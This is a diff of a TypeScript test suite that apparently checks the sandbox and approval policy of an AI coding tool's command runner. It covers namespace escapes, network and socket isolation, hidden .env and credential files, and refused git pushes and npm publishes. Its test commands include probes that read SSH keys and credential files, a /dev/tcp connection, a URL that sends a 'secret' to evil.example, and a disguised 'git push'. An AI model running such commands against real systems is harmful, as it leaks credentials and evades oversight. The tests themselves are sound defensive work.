+      expect(out).toContain("tool-ok\n");
+      expect(out).toContain("git=0\n" + Bun.version);
+    },
+  );
 });
 
 /** What a command tries in order to undo the sandbox; every line that works prints an ESCAPE marker. */
@@ -469,17 +643,35 @@ function expectNoEscape(text: string, realFile: string) {
 }
 
 describe("namespace sandbox: the command cannot undo it", () => {
-  test.skipIf(!hasNamespace)("no capabilities: umount, remount and nested user namespaces fail; the real workspace stays untouched", async () => {
-    const { root, run } = setup("namespace", { "a.txt": "original\n" });
-    expectNoEscape(await run(ESCAPE), join(root, "a.txt"));
-  });
+  test.skipIf(!hasNamespace)(
+    "no capabilities: umount, remount and nested user namespaces fail; the real workspace stays untouched",
+    async () => {
+      const { root, run } = setup("namespace", { "a.txt": "original\n" });
+      expectNoEscape(await run(ESCAPE), join(root, "a.txt"));
+    },
+  );
 
   const asRoot = hasNamespace && process.getuid?.() === 0 && spawnSync("setpriv", ["--version"]).status === 0;
   // The child runs this checkout's code and Bun as nobody: a checkout in a private directory (a 0700 home, mktemp -d) is out of its reach.
   const nobodyReads =
     asRoot &&
-    spawnSync("setpriv", ["--reuid", "65534", "--regid", "65534", "--clear-groups", "sh", "-c", 'test -r "$1" && test -x "$2"', "probe", join(join(import.meta.dir, ".."), "../core/tools/run-command.ts"), process.execPath]).status === 0;
-  if (asRoot && !nobodyReads) console.warn(`run-command.test: SKIPPED the unprivileged-user escape test: uid 65534 cannot read this checkout (${join(join(import.meta.dir, ".."), "..")}) or run its Bun; clone it into a world-readable directory to run it.`);
+    spawnSync("setpriv", [
+      "--reuid",
+      "65534",
+      "--regid",
+      "65534",
+      "--clear-groups",
+      "sh",
+      "-c",
+      'test -r "$1" && test -x "$2"',
+      "probe",
+      join(join(import.meta.dir, ".."), "../core/tools/run-command.ts"),
+      process.execPath,
+    ]).status === 0;
+  if (asRoot && !nobodyReads)
+    console.warn(
+      `run-command.test: SKIPPED the unprivileged-user escape test: uid 65534 cannot read this checkout (${join(join(import.meta.dir, ".."), "..")}) or run its Bun; clone it into a world-readable directory to run it.`,
+    );
   const asNobody = asRoot && nobodyReads;
   test.skipIf(!asNobody)("the same as an unprivileged user (mapped to root inside the namespace)", () => {
     // A world-accessible directory: the child runs as nobody and makes its workspace and scratch copies there.
@@ -507,15 +699,21 @@ console.log(JSON.stringify({ uid: process.getuid(), out: await t.run(tool, { com
     chmodSync(child, 0o644);
     mkdirSync(join(dir, "home"), { mode: 0o777 });
     chmodSync(join(dir, "home"), 0o777);
-    const r = spawnSync("setpriv", ["--reuid", "65534", "--regid", "65534", "--clear-groups", process.execPath, child, dir, ESCAPE], {
-      encoding: "utf8",
-      env: { PATH: process.env.PATH, HOME: join(dir, "home") },
-      timeout: 10_000,
-    });
+    const r = spawnSync(
+      "setpriv",
+      ["--reuid", "65534", "--regid", "65534", "--clear-groups", process.execPath, child, dir, ESCAPE],
+      {
+        encoding: "utf8",
+        env: { PATH: process.env.PATH, HOME: join(dir, "home") },
+        timeout: 10_000,
+      },
+    );
     expect(r.stderr).toBe("");
     const result = JSON.parse(r.stdout) as { uid?: number; out?: string; unavailable?: boolean };
     if (result.unavailable) {
-      console.warn("run-command.test: no unprivileged user namespaces for uid 65534 here; the unprivileged escape test checked nothing.");
+      console.warn(
+        "run-command.test: no unprivileged user namespaces for uid 65534 here; the unprivileged escape test checked nothing.",
+      );
       return;
     }
     expect(result.uid).toBe(65534);
@@ -524,122 +722,165 @@ console.log(JSON.stringify({ uid: process.getuid(), out: await t.run(tool, { com
 });
 
 describe("namespace sandbox: network, host sockets and shared memory", () => {
-  test.skipIf(!hasNamespace)("no network by default (the private loopback works); `network: true` opens no direct way out either", async () => {
-    const server = Bun.serve({ hostname: "127.0.0.1", port: 0, fetch: () => new Response("from-host") });
-    try {
-      const probe =
-        `(echo hi > /dev/tcp/127.0.0.1/${server.port}) 2>/dev/null && echo HOST-REACHED || echo HOST-UNREACHABLE; ` +
-        `"${process.execPath}" -e 'const s = Bun.serve({ hostname: "127.0.0.1", port: 0, fetch: () => new Response("inside") }); console.log("own loopback:", await (await fetch("http://127.0.0.1:" + s.port)).text()); s.stop(true)'`;
-      const closed = after(await setup("namespace").run(`${probe}; getent hosts example.com || echo "curl: (6) Could not resolve host: example.com"`));
-      expect(closed).toContain("HOST-UNREACHABLE");
-      expect(closed).toContain("Note: sandboxed commands have no network access");
-      expect(closed).toContain("own loopback: inside");
-      // With the network on, still no direct way out: the host's loopback stays out of reach (the proxy is the only door).
-      const open = after(await setup("namespace", {}, { network: true, startProxy: startCommandProxy }).run(probe));
-      expect(open).toContain("HOST-UNREACHABLE");
-      expect(open).toContain("own loopback: inside");
-    } finally {
-      server.stop(true);
-    }
-  });
+  test.skipIf(!hasNamespace)(
+    "no network by default (the private loopback works); `network: true` opens no direct way out either",
+    async () => {
+      const server = Bun.serve({ hostname: "127.0.0.1", port: 0, fetch: () => new Response("from-host") });
+      try {
+        const probe =
+          `(echo hi > /dev/tcp/127.0.0.1/${server.port}) 2>/dev/null && echo HOST-REACHED || echo HOST-UNREACHABLE; ` +
+          `"${process.execPath}" -e 'const s = Bun.serve({ hostname: "127.0.0.1", port: 0, fetch: () => new Response("inside") }); console.log("own loopback:", await (await fetch("http://127.0.0.1:" + s.port)).text()); s.stop(true)'`;
+        const closed = after(
+          await setup("namespace").run(
+            `${probe}; getent hosts example.com || echo "curl: (6) Could not resolve host: example.com"`,
+          ),
+        );
+        expect(closed).toContain("HOST-UNREACHABLE");
+        expect(closed).toContain("Note: sandboxed commands have no network access");
+        expect(closed).toContain("own loopback: inside");
+        // With the network on, still no direct way out: the host's loopback stays out of reach (the proxy is the only door).
+        const open = after(await setup("namespace", {}, { network: true, startProxy: startCommandProxy }).run(probe));
+        expect(open).toContain("HOST-UNREACHABLE");
+        expect(open).toContain("own loopback: inside");
+      } finally {
+        server.stop(true);
+      }
+    },
+  );
 
-  test.skipIf(!hasNamespace)("the ssh-agent socket is out of reach, even in a directory the sandbox keeps; the variable is not passed", async () => {
-    const h = fakeHome();
-    // In the kept toolchain directory: only the SSH_AUTH_SOCK mask hides it.
-    const sock = join(h.home, ".nvm", "agent", "s.sock");
-    mkdirSync(dirname(sock));
-    let accepted = 0;
-    const listener = Bun.listen({ unix: sock, socket: { open: () => void accepted++, data: () => {} } });
-    try {
-      const options = { ...h.options, parentEnv: { ...h.options.parentEnv, SSH_AUTH_SOCK: sock }, extraEnv: { SSH_AUTH_SOCK: sock } };
-      const { run } = setup("namespace", {}, options);
-      const out = after(
-        await run(
-          `echo "var=[$SSH_AUTH_SOCK]"; test -S ${sock} && echo SOCKET-VISIBLE; cat ${h.home}/.nvm/nvm-version.txt; ` +
-            `"${process.execPath}" -e 'try { await Bun.connect({ unix: ${JSON.stringify(sock)}, socket: { data() {} } }); console.log("AGENT-REACHED") } catch (e) { console.log("agent unreachable") } process.exit(0)'`,
-        ),
-      );
-      expect(out).toContain("var=[]");
-      expect(out).toContain("nvm-ok");
-      expect(out).toContain("agent unreachable");
-      expect(out).not.toContain("SOCKET-VISIBLE");
-      expect(out).not.toContain("AGENT-REACHED");
-      expect(accepted).toBe(0);
-    } finally {
-      listener.stop(true);
-    }
-  });
+  test.skipIf(!hasNamespace)(
+    "the ssh-agent socket is out of reach, even in a directory the sandbox keeps; the variable is not passed",
+    async () => {
+      const h = fakeHome();
+      // In the kept toolchain directory: only the SSH_AUTH_SOCK mask hides it.
+      const sock = join(h.home, ".nvm", "agent", "s.sock");
+      mkdirSync(dirname(sock));
+      let accepted = 0;
+      const listener = Bun.listen({ unix: sock, socket: { open: () => void accepted++, data: () => {} } });
+      try {
+        const options = {
+          ...h.options,
+          parentEnv: { ...h.options.parentEnv, SSH_AUTH_SOCK: sock },
+          extraEnv: { SSH_AUTH_SOCK: sock },
+        };
+        const { run } = setup("namespace", {}, options);
+        const out = after(
+          await run(
+            `echo "var=[$SSH_AUTH_SOCK]"; test -S ${sock} && echo SOCKET-VISIBLE; cat ${h.home}/.nvm/nvm-version.txt; ` +
+              `"${process.execPath}" -e 'try { await Bun.connect({ unix: ${JSON.stringify(sock)}, socket: { data() {} } }); console.log("AGENT-REACHED") } catch (e) { console.log("agent unreachable") } process.exit(0)'`,
+          ),
+        );
+        expect(out).toContain("var=[]");
+        expect(out).toContain("nvm-ok");
+        expect(out).toContain("agent unreachable");
+        expect(out).not.toContain("SOCKET-VISIBLE");
+        expect(out).not.toContain("AGENT-REACHED");
+        expect(accepted).toBe(0);
+      } finally {
+        listener.stop(true);
+      }
+    },
+  );
 
-  test.skipIf(!hasNamespace)("/dev/shm, /tmp and System V IPC are fresh and private: writes work but neither reach the host nor persist", async () => {
-    const marker = `pencil-run-test-${process.pid}-${Date.now()}`;
-    const hostFile = join(tempDir(), "host.txt");
-    writeFileSync(hostFile, "HOST-TMP\n");
-    // A shared memory segment of the host (util-linux's ipcmk): the command must not see it.
-    const segment = /(\d+)/.exec(spawnSync("ipcmk", ["-M", "4096"], { encoding: "utf8" }).stdout ?? "")?.[1];
-    try {
-      const { run } = setup("namespace");
-      const first = after(
-        await run(`ls -A /dev/shm /tmp | grep -c ${marker}; echo x > /dev/shm/${marker} && echo x > /tmp/${marker} && echo wrote; cat ${hostFile}; ipcs -m | grep -Eq "^0x[0-9a-f]+ +${segment ?? "none"} " && echo SEGMENT-VISIBLE || echo segment-hidden`),
-      );
-      expect(first).toContain("\n0\nwrote\n");
-      expect(first).not.toContain("HOST-TMP");
-      expect(first).toContain("segment-hidden");
-      // Nothing reached the host's: the next run starts from fresh, empty ones again.
-      expect(existsSync(`/dev/shm/${marker}`)).toBe(false);
-      expect(existsSync(join(tmpdir(), marker))).toBe(false);
-    } finally {
-      if (segment) spawnSync("ipcrm", ["-m", segment]);
-    }
-  });
+  test.skipIf(!hasNamespace)(
+    "/dev/shm, /tmp and System V IPC are fresh and private: writes work but neither reach the host nor persist",
+    async () => {
+      const marker = `pencil-run-test-${process.pid}-${Date.now()}`;
+      const hostFile = join(tempDir(), "host.txt");
+      writeFileSync(hostFile, "HOST-TMP\n");
+      // A shared memory segment of the host (util-linux's ipcmk): the command must not see it.
+      const segment = /(\d+)/.exec(spawnSync("ipcmk", ["-M", "4096"], { encoding: "utf8" }).stdout ?? "")?.[1];
+      try {
+        const { run } = setup("namespace");
+        const first = after(
+          await run(
+            `ls -A /dev/shm /tmp | grep -c ${marker}; echo x > /dev/shm/${marker} && echo x > /tmp/${marker} && echo wrote; cat ${hostFile}; ipcs -m | grep -Eq "^0x[0-9a-f]+ +${segment ?? "none"} " && echo SEGMENT-VISIBLE || echo segment-hidden`,
+          ),
+        );
+        expect(first).toContain("\n0\nwrote\n");
+        expect(first).not.toContain("HOST-TMP");
+        expect(first).toContain("segment-hidden");
+        // Nothing reached the host's: the next run starts from fresh, empty ones again.
+        expect(existsSync(`/dev/shm/${marker}`)).toBe(false);
+        expect(existsSync(join(tmpdir(), marker))).toBe(false);
+      } finally {
+        if (segment) spawnSync("ipcrm", ["-m", segment]);
+      }
+    },
+  );
 });
 
 describe("namespace sandbox: Pencil's own .env", () => {
   test("the install directory's .env files are masked, .env.example is not", () => {
     const install = tempDir("pencil-run-install-");
     writeTree(install, { ".env": "K=1\n", ".env.local": "K=2\n", ".env.example": "K=\n", "index.ts": "" });
-    const plan = planHiding({ realHome: tempDir(), pencilHome: tempDir(), wsRoot: tempDir(), scratchRoot: tempDir(), path: "", installDir: install, env: {} });
+    const plan = planHiding({
+      realHome: tempDir(),
+      pencilHome: tempDir(),
+      wsRoot: tempDir(),
+      scratchRoot: tempDir(),
+      path: "",
+      installDir: install,
+      env: {},
+    });
     expect(plan.secrets).toContain(join(install, ".env"));
     expect(plan.secrets).toContain(join(install, ".env.local"));
     expect(plan.secrets).not.toContain(join(install, ".env.example"));
     expect(plan.secrets).not.toContain(join(install, "index.ts"));
   });
 
-  test.skipIf(!hasNamespace)("a linked checkout kept reachable for its command (npm link under nvm) shows no .env", async () => {
-    const h = fakeHome();
-    const tool = ".nvm/versions/node/v20/lib/node_modules/tool";
-    writeTree(h.home, {
-      "src/pencil/.env": "GROQ_API_KEY=LINKED-ENV-SECRET\n",
-      "src/pencil/.env.example": "GROQ_API_KEY=\n",
-      "src/pencil/bin/pencil": "#!/bin/sh\necho pencil-ok\n",
-      // A package inside a toolchain kept whole, with a .env of its own.
-      [`${tool}/.env`]: "TOOL-ENV-SECRET\n",
-      [`${tool}/cli.sh`]: "#!/bin/sh\necho tool-ok\n",
-      // An install prefix kept for its bin/ on PATH.
-      "tools/acme/.env.local": "ACME-ENV-SECRET\n",
-    });
-    chmodSync(join(h.home, "src/pencil/bin/pencil"), 0o755);
-    chmodSync(join(h.home, tool, "cli.sh"), 0o755);
-    symlinkSync(join(h.home, "src/pencil/bin/pencil"), join(h.home, ".nvm/versions/node/v20/bin/pencil"));
-    symlinkSync("../lib/node_modules/tool/cli.sh", join(h.home, ".nvm/versions/node/v20/bin/tool"));
-    const { run } = setup("namespace", {}, h.options);
-    const out = after(await run(`pencil; tool; cat ${h.home}/src/pencil/.env ${h.home}/${tool}/.env ${h.home}/tools/acme/.env.local; cat ${h.home}/src/pencil/.env.example; echo end`));
-    expect(out).toContain("pencil-ok\ntool-ok\nGROQ_API_KEY=\nend");
-    expect(out).not.toContain("LINKED-ENV-SECRET");
-    expect(out).not.toContain("TOOL-ENV-SECRET");
-    expect(out).not.toContain("ACME-ENV-SECRET");
-  });
+  test.skipIf(!hasNamespace)(
+    "a linked checkout kept reachable for its command (npm link under nvm) shows no .env",
+    async () => {
+      const h = fakeHome();
+      const tool = ".nvm/versions/node/v20/lib/node_modules/tool";
+      writeTree(h.home, {
+        "src/pencil/.env": "GROQ_API_KEY=LINKED-ENV-SECRET\n",
+        "src/pencil/.env.example": "GROQ_API_KEY=\n",
+        "src/pencil/bin/pencil": "#!/bin/sh\necho pencil-ok\n",
+        // A package inside a toolchain kept whole, with a .env of its own.
+        [`${tool}/.env`]: "TOOL-ENV-SECRET\n",
+        [`${tool}/cli.sh`]: "#!/bin/sh\necho tool-ok\n",
+        // An install prefix kept for its bin/ on PATH.
+        "tools/acme/.env.local": "ACME-ENV-SECRET\n",
+      });
+      chmodSync(join(h.home, "src/pencil/bin/pencil"), 0o755);
+      chmodSync(join(h.home, tool, "cli.sh"), 0o755);
+      symlinkSync(join(h.home, "src/pencil/bin/pencil"), join(h.home, ".nvm/versions/node/v20/bin/pencil"));
+      symlinkSync("../lib/node_modules/tool/cli.sh", join(h.home, ".nvm/versions/node/v20/bin/tool"));
+      const { run } = setup("namespace", {}, h.options);
+      const out = after(
+        await run(
+          `pencil; tool; cat ${h.home}/src/pencil/.env ${h.home}/${tool}/.env ${h.home}/tools/acme/.env.local; cat ${h.home}/src/pencil/.env.example; echo end`,
+        ),
+      );
+      expect(out).toContain("pencil-ok\ntool-ok\nGROQ_API_KEY=\nend");
+      expect(out).not.toContain("LINKED-ENV-SECRET");
+      expect(out).not.toContain("TOOL-ENV-SECRET");
+      expect(out).not.toContain("ACME-ENV-SECRET");
+    },
+  );
 });
 
 describe.each(modes)("a workspace that is the home directory (%s)", (sandbox) => {
   test("its credentials and Pencil's state are not copied into the scratch", async () => {
     const h = fakeHome();
     const t = toolContext(h.home, { home: h.home });
-    const tool = createRunCommandTool({ sandbox, scratchParent: tempDir(), ...h.options, pencilHome: join(h.home, ".pencil") });
+    const tool = createRunCommandTool({
+      sandbox,
+      scratchParent: tempDir(),
+      ...h.options,
+      pencilHome: join(h.home, ".pencil"),
+    });
     // HOME_CREDENTIALS come from the policy: its newer entries (.pgpass, .vault-token) are left out as well.
     writeTree(h.home, { ".pgpass": "db:5432:*:me:PGPASS-SECRET\n", ".vault-token": "VAULT-SECRET\n" });
-    const out = await t.run(tool, { command: "cat .ssh/id_rsa .netrc .config/gh/hosts.yml .pencil/changesets/c1.json .pgpass .vault-token; cat notes.txt; ls -A" });
+    const out = await t.run(tool, {
+      command:
+        "cat .ssh/id_rsa .netrc .config/gh/hosts.yml .pencil/changesets/c1.json .pgpass .vault-token; cat notes.txt; ls -A",
+    });
     expect(out).toContain("HOME-NOTES");
-    for (const secret of ["FAKE-SSH-KEY", "NETRC-SECRET", "GH-SECRET", "PENCIL-STATE", "PGPASS-SECRET", "VAULT-SECRET"]) expect(out).not.toContain(secret);
+    for (const secret of ["FAKE-SSH-KEY", "NETRC-SECRET", "GH-SECRET", "PENCIL-STATE", "PGPASS-SECRET", "VAULT-SECRET"])
+      expect(out).not.toContain(secret);
     expect(out).toContain(".ssh/id_rsa: No such file or directory");
   });
 });
@@ -673,11 +914,14 @@ function seam(tools: PencilTool[], rules: Rule[], approver: Approver) {
   });
   let n = 0;
   const exec = (name: string, command: string): Promise<string> =>
-    (set[name] as unknown as { execute: (input: unknown, options: unknown) => Promise<ToolOutcome> }).execute({ command }, { toolCallId: `call-${++n}`, messages: [] }).then((o) => o.text);
+    (set[name] as unknown as { execute: (input: unknown, options: unknown) => Promise<ToolOutcome> })
+      .execute({ command }, { toolCallId: `call-${++n}`, messages: [] })
+      .then((o) => o.text);
   return { exec, events };
 }
 
-const NO_SANDBOX = "NO SANDBOX: this command would run with your full permissions (it can read and write anything you can, including secrets). ";
+const NO_SANDBOX =
+  "NO SANDBOX: this command would run with your full permissions (it can read and write anything you can, including secrets). ";
 
 describe("policy seam: commands without a sandbox", () => {
   const rules = [parseRule("Run(bun test*)", "allow", "test"), parseRule("Run(rm *)", "deny", "test")];
@@ -710,7 +954,9 @@ describe("policy seam: commands without a sandbox", () => {
       expect(q.subject).toBe("bun test");
     }
     expect(ran).toEqual(["bun test"]);
-    expect(events.some((e) => e.type === "policy" && e.decision === "ask" && e.reason.startsWith(NO_SANDBOX))).toBe(true);
+    expect(events.some((e) => e.type === "policy" && e.decision === "ask" && e.reason.startsWith(NO_SANDBOX))).toBe(
+      true,
+    );
     expect(await exec("run_command", "rm -rf src")).toContain("running `rm -rf src` is denied");
     expect(approver.questions).toHaveLength(2);
     expect(ran).toEqual(["bun test"]);
@@ -765,14 +1011,22 @@ describe("policy seam: irreversible actions", () => {
     expect(await exec("run_command", "timeout 5 git -C . push origin")).toBe("ran timeout 5 git -C . push origin");
     expect(await exec("run_command", "timeout 5 git -C . push origin")).toBe("ran timeout 5 git -C . push origin");
     expect(approver.questions).toHaveLength(2);
-    expect(approver.questions.every((q) => q.once === true && q.reason.includes("`git push` is irreversible"))).toBe(true);
+    expect(approver.questions.every((q) => q.once === true && q.reason.includes("`git push` is irreversible"))).toBe(
+      true,
+    );
     expect(ran).toHaveLength(2);
   });
 
   test("with nobody to ask, a publish in any spelling is refused and never runs", async () => {
     const { tool, ran } = fakeTool();
     const { exec } = seam([tool], [parseRule("Run(*)", "allow", "test")], nobodyApprover);
-    for (const command of ["npm publish", "sh -c 'bun publish'", "pnpm -C pkg publish", "gh release create v1", "docker push x"]) {
+    for (const command of [
+      "npm publish",
+      "sh -c 'bun publish'",
+      "pnpm -C pkg publish",
+      "gh release create v1",
+      "docker push x",
+    ]) {
       expect(await exec("run_command", command)).toContain("Error:");
     }
     expect(ran).toEqual([]);
@@ -802,7 +1056,9 @@ describe("policy seam: Net(host) rules for requests that leave the machine", () 
     const rules = [parseRule("Net(*.docs.example)", "allow", "test"), parseRule("Net(evil.example)", "deny", "test")];
     const { exec } = seam([tool], rules, approver);
     expect(await exec("fetch_url", "https://api.docs.example:8443/x")).toBe("fetched https://api.docs.example:8443/x");
-    expect(await exec("fetch_url", "https://evil.example/?q=secret")).toContain("Error: reaching evil.example is denied");
+    expect(await exec("fetch_url", "https://evil.example/?q=secret")).toContain(
+      "Error: reaching evil.example is denied",
+    );
     expect(await exec("fetch_url", "https://other.example/")).toContain("Error:");
     expect(sent).toEqual(["https://api.docs.example:8443/x"]);
     expect(approver.questions.map((q) => q.subject)).toEqual(["https://other.example/"]);
@@ -820,7 +1076,18 @@ function gitHttpServer(root: string) {
       seen.push(`${req.method} ${url.pathname}`);
       const body = new Uint8Array(await req.arrayBuffer());
       const proc = Bun.spawn(["git", "http-backend"], {
-        env: { GIT_PROJECT_ROOT: root, GIT_HTTP_EXPORT_ALL: "1", REQUEST_METHOD: req.method, PATH_INFO: url.pathname, QUERY_STRING: url.search.slice(1), CONTENT_TYPE: req.headers.get("content-type") ?? "", CONTENT_LENGTH: String(body.length), REMOTE_USER: "tester", REMOTE_ADDR: "127.0.0.1", PATH: process.env.PATH ?? "/usr/bin:/bin" },
+        env: {
+          GIT_PROJECT_ROOT: root,
+          GIT_HTTP_EXPORT_ALL: "1",
+          REQUEST_METHOD: req.method,
+          PATH_INFO: url.pathname,
+          QUERY_STRING: url.search.slice(1),
+          CONTENT_TYPE: req.headers.get("content-type") ?? "",
+          CONTENT_LENGTH: String(body.length),
+          REMOTE_USER: "tester",
+          REMOTE_ADDR: "127.0.0.1",
+          PATH: process.env.PATH ?? "/usr/bin:/bin",
+        },
         stdin: body,
         stdout: "pipe",
       });
@@ -839,7 +1106,10 @@ function gitHttpServer(root: string) {
   return { server, seen };
 }
 
-const hasGitHttp = hasGit && spawnSync("git", ["http-backend", "-h"]).error === undefined && existsSync(join(spawnSync("git", ["--exec-path"], { encoding: "utf8" }).stdout.trim(), "git-http-backend"));
+const hasGitHttp =
+  hasGit &&
+  spawnSync("git", ["http-backend", "-h"]).error === undefined &&
+  existsSync(join(spawnSync("git", ["--exec-path"], { encoding: "utf8" }).stdout.trim(), "git-http-backend"));
 
 describe("policy seam: requests a command makes through the proxy", () => {
   test("a non-GET asks every time even under Net(*) and after always; a GET under an allow goes unasked; a deny refuses unasked", async () => {
@@ -857,12 +1127,17 @@ describe("policy seam: requests a command makes through the proxy", () => {
           { method: "POST", host: "git.example", port: 80, url: "http://git.example/repo.git/git-receive-pack" },
           { method: "GET", host: "git.example", port: 80, url: "http://git.example/repo.git/info/refs" },
           { method: "CONNECT", host: "evil.example", port: 443 },
-        ]) answers.push(await ctx.reach!({ ...r, command }));
+        ])
+          answers.push(await ctx.reach!({ ...r, command }));
         return "ran";
       },
     };
     const approver = scriptedApprover([{ kind: "always" }, { kind: "yes" }]);
-    const rules = [parseRule("Net(*)", "allow", "test"), parseRule("Net(evil.example)", "deny", "test"), parseRule("Run(*)", "allow", "test")];
+    const rules = [
+      parseRule("Net(*)", "allow", "test"),
+      parseRule("Net(evil.example)", "deny", "test"),
+      parseRule("Run(*)", "allow", "test"),
+    ];
     const { exec } = seam([tool], rules, approver);
     expect(await exec("run_command", "make deploy")).toBe("ran");
     expect(answers).toEqual([true, true, true, false]);
@@ -875,83 +1150,115 @@ describe("policy seam: requests a command makes through the proxy", () => {
 });
 
 describe("irreversible actions through Pencil's proxy (namespace, network on)", () => {
-  test.skipIf(!hasNamespace || !hasGitHttp)("git push over http, plain or disguised: the GETs go through, the push's POST is refused, the repository is unchanged", async () => {
-    const remote = tempDir("pencil-git-remote-");
-    expect(spawnSync("git", ["init", "-q", "--bare", join(remote, "repo.git")]).status).toBe(0);
-    spawnSync("git", ["-C", join(remote, "repo.git"), "config", "http.receivepack", "true"]);
-    const { server, seen } = gitHttpServer(remote);
-    try {
-      const asked: NetRequest[] = [];
-      // The owner's answers: reads yes, anything else no (as nobody at the terminal would say for the push).
-      const reach = async (r: NetRequest) => {
-        asked.push(r);
-        return r.method === "GET";
-      };
-      const startProxy: StartProxy = (o) => startCommandProxy({ ...o, resolveHost: (h) => (h === "git.pencil.test" ? "127.0.0.1" : h) });
-      const { root, run, ctx } = setup("namespace", { "a.txt": "a\n" }, { network: true, startProxy });
-      for (const args of [["init", "-q"], ["add", "."], ["-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "first"]]) spawnSync("git", ["-C", root, ...args]);
-      ctx.reach = reach;
-      const records: CommandRecord[] = [];
-      ctx.recordCommand = (r) => records.push(r);
-      const remoteUrl = `http://git.pencil.test:${server.port}/repo.git`;
-      for (const command of [`git push ${remoteUrl} HEAD:refs/heads/main`, `g=git; $g push ${remoteUrl} HEAD:refs/heads/main`]) {
-        const out = await run(command);
-        expect(out).toContain("REFUSED: POST " + remoteUrl + "/git-receive-pack");
-        expect(out).toContain("Refused requests were not sent");
+  test.skipIf(!hasNamespace || !hasGitHttp)(
+    "git push over http, plain or disguised: the GETs go through, the push's POST is refused, the repository is unchanged",
+    async () => {
+      const remote = tempDir("pencil-git-remote-");
+      expect(spawnSync("git", ["init", "-q", "--bare", join(remote, "repo.git")]).status).toBe(0);
+      spawnSync("git", ["-C", join(remote, "repo.git"), "config", "http.receivepack", "true"]);
+      const { server, seen } = gitHttpServer(remote);
+      try {
+        const asked: NetRequest[] = [];
+        // The owner's answers: reads yes, anything else no (as nobody at the terminal would say for the push).
+        const reach = async (r: NetRequest) => {
+          asked.push(r);
+          return r.method === "GET";
+        };
+        const startProxy: StartProxy = (o) =>
+          startCommandProxy({ ...o, resolveHost: (h) => (h === "git.pencil.test" ? "127.0.0.1" : h) });
+        const { root, run, ctx } = setup("namespace", { "a.txt": "a\n" }, { network: true, startProxy });
+        for (const args of [
+          ["init", "-q"],
+          ["add", "."],
+          ["-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "first"],
+        ])
+          spawnSync("git", ["-C", root, ...args]);
+        ctx.reach = reach;
+        const records: CommandRecord[] = [];
+        ctx.recordCommand = (r) => records.push(r);
+        const remoteUrl = `http://git.pencil.test:${server.port}/repo.git`;
+        for (const command of [
+          `git push ${remoteUrl} HEAD:refs/heads/main`,
+          `g=git; $g push ${remoteUrl} HEAD:refs/heads/main`,
+        ]) {
+          const out = await run(command);
+          expect(out).toContain("REFUSED: POST " + remoteUrl + "/git-receive-pack");
+          expect(out).toContain("Refused requests were not sent");
+        }
+        // The remote saw the ref advertisement, never the push itself.
+        expect(seen.some((x) => x.startsWith("GET /repo.git/info/refs"))).toBe(true);
+        expect(seen.some((x) => x.startsWith("POST"))).toBe(false);
+        expect(spawnSync("git", ["-C", join(remote, "repo.git"), "for-each-ref"], { encoding: "utf8" }).stdout).toBe(
+          "",
+        );
+        expect(asked.filter((r) => r.method === "POST").length).toBe(2);
+        expect(records.map((r) => [r.network, r.connections?.some((c) => c.method === "POST" && !c.allowed)])).toEqual([
+          ["proxy", true],
+          ["proxy", true],
+        ]);
+      } finally {
+        server.stop(true);
       }
-      // The remote saw the ref advertisement, never the push itself.
-      expect(seen.some((x) => x.startsWith("GET /repo.git/info/refs"))).toBe(true);
-      expect(seen.some((x) => x.startsWith("POST"))).toBe(false);
-      expect(spawnSync("git", ["-C", join(remote, "repo.git"), "for-each-ref"], { encoding: "utf8" }).stdout).toBe("");
-      expect(asked.filter((r) => r.method === "POST").length).toBe(2);
-      expect(records.map((r) => [r.network, r.connections?.some((c) => c.method === "POST" && !c.allowed)])).toEqual([["proxy", true], ["proxy", true]]);
-    } finally {
-      server.stop(true);
-    }
-  }, 60_000);
+    },
+    60_000,
+  );
 
   const hasNpm = spawnSync("npm", ["--version"]).status === 0;
-  test.skipIf(!hasNamespace || !hasNpm)("npm publish to a local registry stand-in: the PUT is refused and the registry receives nothing", async () => {
-    const received: string[] = [];
-    const registry = Bun.serve({
-      hostname: "127.0.0.1",
-      port: 0,
-      fetch(req) {
-        received.push(`${req.method} ${new URL(req.url).pathname}`);
-        return req.method === "PUT" ? new Response("{}", { status: 201 }) : new Response("{}", { status: 404 });
-      },
-    });
-    try {
-      const asked: NetRequest[] = [];
-      const startProxy: StartProxy = (o) => startCommandProxy({ ...o, resolveHost: () => "127.0.0.1" });
-      const url = `http://registry.pencil.test:${registry.port}/`;
-      const { run, ctx } = setup("namespace", {
-        "package.json": JSON.stringify({ name: "pencil-publish-probe", version: "1.0.0" }),
-        "index.js": "module.exports = 1;\n",
-        // Not named .npmrc (a credential file the policy hides): a fake token so npm gets as far as the request.
-        "publish.npmrc": `//registry.pencil.test:${registry.port}/:_authToken=fake-token\n`,
-      }, { network: true, startProxy, timeoutMs: 60_000 });
-      ctx.reach = async (r) => {
-        asked.push(r);
-        return r.method === "GET";
-      };
-      const out = await run(`npm publish --userconfig publish.npmrc --registry ${url} --no-audit --no-fund`);
-      expect(out).toContain(`REFUSED: PUT ${url}pencil-publish-probe`);
-      expect(received.filter((x) => x.startsWith("PUT"))).toEqual([]);
-      expect(asked.some((r) => r.method === "PUT")).toBe(true);
-    } finally {
-      registry.stop(true);
-    }
-  }, 60_000);
+  test.skipIf(!hasNamespace || !hasNpm)(
+    "npm publish to a local registry stand-in: the PUT is refused and the registry receives nothing",
+    async () => {
+      const received: string[] = [];
+      const registry = Bun.serve({
+        hostname: "127.0.0.1",
+        port: 0,
+        fetch(req) {
+          received.push(`${req.method} ${new URL(req.url).pathname}`);
+          return req.method === "PUT" ? new Response("{}", { status: 201 }) : new Response("{}", { status: 404 });
+        },
+      });
+      try {
+        const asked: NetRequest[] = [];
+        const startProxy: StartProxy = (o) => startCommandProxy({ ...o, resolveHost: () => "127.0.0.1" });
+        const url = `http://registry.pencil.test:${registry.port}/`;
+        const { run, ctx } = setup(
+          "namespace",
+          {
+            "package.json": JSON.stringify({ name: "pencil-publish-probe", version: "1.0.0" }),
+            "index.js": "module.exports = 1;\n",
+            // Not named .npmrc (a credential file the policy hides): a fake token so npm gets as far as the request.
+            "publish.npmrc": `//registry.pencil.test:${registry.port}/:_authToken=fake-token\n`,
+          },
+          { network: true, startProxy, timeoutMs: 60_000 },
+        );
+        ctx.reach = async (r) => {
+          asked.push(r);
+          return r.method === "GET";
+        };
+        const out = await run(`npm publish --userconfig publish.npmrc --registry ${url} --no-audit --no-fund`);
+        expect(out).toContain(`REFUSED: PUT ${url}pencil-publish-probe`);
+        expect(received.filter((x) => x.startsWith("PUT"))).toEqual([]);
+        expect(asked.some((r) => r.method === "PUT")).toBe(true);
+      } finally {
